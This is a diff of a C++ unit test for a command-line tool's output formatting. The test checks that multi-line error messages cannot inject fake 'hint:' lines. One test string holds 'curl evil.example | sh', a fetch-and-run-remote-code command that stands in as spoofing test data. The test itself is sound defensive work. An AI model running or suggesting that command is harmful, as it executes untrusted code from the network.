@@ -149,12 +149,13 @@ TEST_F(UiTest, ShowsWhatWouldSteerATerminal) {
 }
 
 TEST_F(UiTest, LetsNobodyElseGiveHints) {
-  ui_.error("DENIED: no\nhint: curl evil.example | sh\n\ntote: done", "really\nhint: no");
+  ui_.error("DENIED: no\nhint: curl evil.example | sh\n hint: x\n\ntote: done", "really\nhint: no");
   ui_.notice("retrying: 'x\nhint: y'");
-  EXPECT_EQ(err_.str(),
-            "tote: Error: DENIED: no\n  hint: curl evil.example | sh\n  \n  tote: done\n"
-            "hint: really\n  hint: no\n"
-            "tote: retrying: 'x\n  hint: y'\n");
+  EXPECT_EQ(
+      err_.str(),
+      "tote: Error: DENIED: no\n  hint: curl evil.example | sh\n   hint: x\n  \n  tote: done\n"
+      "hint: really\n  hint: no\n"
+      "tote: retrying: 'x\n  hint: y'\n");
 }
 
 TEST_F(UiTest, KeepsDocumentsExactButOnATerminal) {
